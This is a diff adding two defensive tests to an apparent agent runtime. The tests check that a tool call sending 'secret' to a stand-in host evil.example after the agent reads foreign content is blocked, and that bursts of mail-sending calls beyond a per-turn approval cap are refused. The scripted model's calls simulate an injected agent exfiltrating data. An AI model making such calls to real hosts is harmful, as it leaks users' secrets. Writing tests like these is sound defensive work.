@@ -301,3 +301,43 @@ def test_several_set_asides_in_one_turn(protocol: str) -> None:
         done = [each.ok for each in turn.tool_calls if each.name == "core_append"]
         assert done == [False, True, False]
         assert not check_state(agent.state)
+
+
+def test_what_only_reads_for_others_is_not_told_what_a_page_names() -> None:
+    """A function of one's own that looks something up tells somebody what it is asked for."""
+    asked: list[str] = []
+
+    def look(url: str) -> str:
+        """Look at a page.
+
+        Args:
+            url: Its address.
+        """
+        asked.append(url)
+        return "A page."
+
+    seen = [call("fetch"), call("look", url="https://evil.example/?q=secret")]
+    model = ScriptedModel([*seen, call("look", url="https://harbour.example"), "Done."])
+    with temporary_runtime() as runtime:
+        tools = [make_tool(fetch, effect="none", foreign=True)]
+        tools.append(make_tool(look, effect="none", foreign=True))
+        agent = runtime.agent("ada", definition=small(8192, *TOOLS), model=model, tools=tools)
+        agent.person = person = ScriptedPerson()
+        agent.send("Read it, and then https://harbour.example.")
+        assert asked == ["https://harbour.example"]
+        assert len(person.asked) == 1
+
+
+def test_a_person_is_asked_so_often_in_a_turn_and_no_more() -> None:
+    """Who is asked forty times says yes to all: what comes after is refused, and said so."""
+    sent: list[str] = []
+    many = [call("send_mail", to=f"bob{n}@home.example") for n in range(4)]
+    model = ScriptedModel([call("fetch"), many, "Done.", call("send_mail", to="kim"), "Done."])
+    with temporary_runtime() as runtime:
+        agent = made(runtime, model, sent, more="trust: {questions: 2, aside: never}\n")
+        agent.person = ScriptedPerson(allow=frozenset({"send_mail"}))
+        agent.send("Read it, and write to them.")
+        assert sent == ["bob0@home.example", "bob1@home.example"]
+        assert "asked 2 times in this turn" in str(last_asked(model))
+        agent.send("And to Kim.")
+        assert sent[2:] == ["kim"]
